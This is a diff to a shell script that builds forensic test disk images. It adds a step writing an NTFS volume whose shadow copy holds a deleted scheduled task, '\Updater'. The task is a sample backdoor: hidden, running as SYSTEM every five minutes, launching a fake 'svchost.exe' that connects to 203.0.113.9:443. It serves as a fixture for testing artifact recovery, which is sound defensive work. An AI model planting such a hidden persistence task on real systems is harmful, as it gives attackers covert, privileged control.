@@ -406,6 +406,49 @@ build_windows_tasks() {
   expect "$img" windows-tasks
 }
 
+# ---------------------------------------------------------------- a shadow copy holding a task removed after it
+# A GPT disk whose NTFS partition has one Volume Shadow Copy store (corpus/vss_store.py): the
+# snapshot holds the backdoor task `\Updater`, deleted from the live volume afterwards.
+build_windows_vss() {
+  local img=$WORK/winvss.img vol=$WORK/winvss-vol.img tree=$WORK/winvsstree
+  rm -rf "$tree" "$img" "$vol" "$vol".*; mkdir -p "$tree"
+  python3 "$HERE/windows_tasks.py" "$tree" 20
+  mkdir -p "$tree/Windows/System32/config"
+  python3 "$HERE/task_cache.py" "$tree/Windows/System32/config/SOFTWARE"
+  python3 "$HERE/system_hive.py" "$tree/Windows/System32/config/SYSTEM"
+  truncate -s 32M "$vol"; mkntfs -q -F -L Windows "$vol" 2>/dev/null
+  ntfs_mount "$vol"
+  cp -r "$tree/Windows" "$MNT/"
+  python3 - "$MNT/Windows/System32/Tasks/Updater" <<'PY'
+import sys
+xml = """<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Date>2026-11-29T23:14:05</Date>
+    <Author>CORP\\mallory</Author>
+    <URI>\\Updater</URI>
+  </RegistrationInfo>
+  <Triggers><TimeTrigger><Repetition><Interval>PT5M</Interval></Repetition><StartBoundary>2026-11-29T23:15:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>
+  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
+  <Settings><Enabled>true</Enabled><Hidden>true</Hidden></Settings>
+  <Actions Context="Author"><Exec><Command>C:\\Users\\Public\\svchost.exe</Command><Arguments>-connect 203.0.113.9:443</Arguments></Exec></Actions>
+</Task>
+"""
+open(sys.argv[1], "wb").write(b"\xff\xfe" + xml.replace("\n", "\r\n").encode("utf-16-le"))
+PY
+  ntfs_umount
+  cp "$vol" "$vol.before"
+  ntfs_mount "$vol"
+  rm "$MNT/Windows/System32/Tasks/Updater"
+  ntfs_umount
+  python3 "$HERE/vss_store.py" "$vol.before" "$vol" "$vol.vss"
+  truncate -s 40M "$img"
+  sgdisk -n 1:2048:+32M -t 1:0700 -c 1:Windows "$img" >/dev/null
+  dd if="$vol.vss" of="$img" bs=512 seek=2048 conv=notrunc,sparse status=none
+  store "$img" windows-vss
+  expect "$img" windows-vss
+}
+
 # ---------------------------------------------------------------- volumes foothold names but does not read
 # Needs xfsprogs btrfs-progs cryptsetup-bin exfatprogs lvm2 (and a loop device for pvcreate).
 build_other_fs() {
@@ -479,7 +522,7 @@ build_containers() {
   done
 }
 
-for step in ${STEPS:-ntfs ext4 inline ext23 gpt mbr cycle linux_debian linux_rhel linux_auth windows_tasks lvm lvm_kinds other_fs containers}; do
+for step in ${STEPS:-ntfs ext4 inline ext23 gpt mbr cycle linux_debian linux_rhel linux_auth windows_tasks windows_vss lvm lvm_kinds other_fs containers}; do
   echo "building $step" >&2
   "build_$step"
 done
